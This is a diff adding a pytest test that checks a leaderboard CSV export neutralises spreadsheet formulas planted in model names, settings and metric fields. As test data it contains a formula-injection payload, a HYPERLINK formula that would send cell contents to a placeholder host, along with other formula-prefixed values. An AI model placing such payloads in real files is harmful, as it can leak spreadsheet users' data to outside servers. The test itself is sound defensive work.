@@ -176,6 +176,27 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_defused(start: str) -> None:
     assert defused("a=b") == "a=b" and defused(-1.5) == -1.5 and defused("") == ""
 
 
+def test_no_cell_of_a_leaderboard_in_csv_is_a_formula(call: Call, tmp_path: Path) -> None:
+    """Names of models, settings and metrics come from run folders, which anybody may have made."""
+    call(*DRAW)
+    formula = '=HYPERLINK("http://host/?"&A1)'
+    manifest = read_json(tmp_path / "run/manifest.json")
+    manifest["identity"]["model"] |= {"name": formula, "settings": {"@SUM(1)": 2}}
+    write_json(tmp_path / "run/manifest.json", manifest)
+    file = tmp_path / "run/toy_draw/metrics.json"
+    result = read_json(file)
+    result["task"], result["headline"] = "+toy", "-x"
+    result["metrics"], result["intervals"] = {"-x": -0.5}, {"-x": [-1.0, 0.0]}
+    write_json(file, result)
+    assert call("leaderboard", "run", "--output", "board.csv").code == 0
+    text = (tmp_path / "board.csv").read_text()
+    rows = list(csv.DictReader(text.splitlines()))
+    assert rows[0]["model"] == "'" + formula and rows[0]["value"] == "-0.5"
+    texts = ("model", "task", "metric", "protocol", "settings", "run", "sources", "text")
+    for row in rows:
+        assert not [row[name] for name in texts if row[name][:1] in tuple("=+-@")]
+
+
 def test_keys_and_tokens_are_neither_stored_nor_printed(
     call: Call, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
